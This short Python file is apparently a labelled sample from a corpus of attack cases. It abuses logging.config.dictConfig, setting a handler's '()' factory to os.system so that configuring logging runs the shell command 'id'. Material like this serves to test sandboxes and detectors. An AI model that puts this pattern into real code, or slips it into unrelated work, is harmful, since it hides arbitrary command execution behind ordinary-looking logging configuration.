# corpus: attack class=process form=targeted
# logging.config imports and calls the callable named by '()'.
import logging.config


def main():
    logging.config.dictConfig({
        "version": 1,
        "handlers": {"run": {"()": "os.system", "command": "id"}},
    })
    return {"done": True}
